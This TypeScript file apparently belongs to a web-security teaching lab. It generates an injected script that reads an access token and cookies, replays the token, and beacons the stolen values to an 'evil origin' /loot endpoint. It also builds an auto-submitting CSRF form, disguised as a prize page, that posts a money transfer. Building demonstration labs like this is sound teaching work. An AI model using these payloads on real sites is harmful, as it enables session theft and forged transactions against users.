import { API_PATHS } from '../../shared/api/paths.ts';
import { SEEN_COOKIE_HEADER, STOLEN_BY_HEADER } from '../../shared/api/lab-attacks.ts';
import { ACCESS_TOKEN_STORAGE_KEY } from '../../shared/storage-keys.ts';

/**
 * The script the evil origin serves for lab 5. It runs inside the vulnerable page, so with that page's
 * origin: it reads the token from localStorage and what `document.cookie` shows, replays the token on a
 * real same-origin request (the inspector records it, with what the script saw in {@link SEEN_COOKIE_HEADER}
 * and the browser's real Cookie header side by side), and reports home to `evilOrigin` with an image beacon.
 */
export function stealScript(evilOrigin: string): string {
  return `// Session Lab, lab 5: the attacker's script. It runs in the page that let it in, with that page's origin.
(async () => {
  const token = localStorage.getItem(${JSON.stringify(ACCESS_TOKEN_STORAGE_KEY)});
  const seen = document.cookie;
  const headers = { ${JSON.stringify(STOLEN_BY_HEADER)}: 'evil-script', ${JSON.stringify(SEEN_COOKIE_HEADER)}: seen || '(empty)' };
  if (token) headers.Authorization = 'Bearer ' + token;
  let status = 0;
  try {
    status = (await fetch(${JSON.stringify(API_PATHS.tokenData)}, { headers })).status;
  } catch {}
  const shortToken = token ? token.slice(0, 10) + '…' + token.slice(-8) : '';
  const report = new URLSearchParams({ token: shortToken, cookie: seen, status: String(status) });
  new Image().src = ${JSON.stringify(evilOrigin)} + '/loot?' + report;
  const note = document.createElement('p');
  note.textContent = 'The injected script read the token (' + (shortToken || 'none') + '), saw document.cookie = "' + seen + '" and replayed the token: HTTP ' + status + '.';
  document.body.append(note);
})();
`;
}

/** The evil origin's auto-submitting form for lab 6: a cross-origin POST of a form to the app's CSRF target. */
export function forgedFormPage(appOrigin: string): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>You won a prize</title></head>
<body><p>The evil origin's page (Session Lab, lab 6): this form sends itself to the app as soon as it loads.</p>
<form method="post" action="${appOrigin}${API_PATHS.labCsrfTransfer}">
<input name="to" value="mallory"><input name="amount" value="1000"><button>Claim</button>
</form>
<script>document.forms[0].submit();</script>
</body></html>`;
}

/** A 1×1 transparent GIF: the answer to the image beacon. */
export const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
